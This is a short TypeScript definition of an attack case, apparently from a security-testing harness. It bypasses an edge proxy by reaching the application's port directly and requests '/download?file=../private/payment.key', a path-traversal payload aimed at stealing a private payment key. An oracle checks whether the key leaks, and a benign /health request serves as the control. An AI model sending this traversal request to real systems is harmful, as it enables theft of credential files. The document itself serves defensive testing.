import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Finds the application's own port and downloads the key file there. */
export const bypassDirectDownload: Attack = defineAttack({
  id: 'bypass-direct-download',
  class: 'edge-bypass',
  title: "Finds the application's own port and downloads the key file there",
  cwe: 420,
  capec: 554,
  technique: 'T1190',
  preconditions: ['the port of the application is reachable'],

  steps: ({ origin }) => origin().get('/download?file=../private/payment.key'),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  // A health check of the operator's own goes there too, and is nobody's concern.
  twin: ({ origin }) => origin().get('/health'),
})
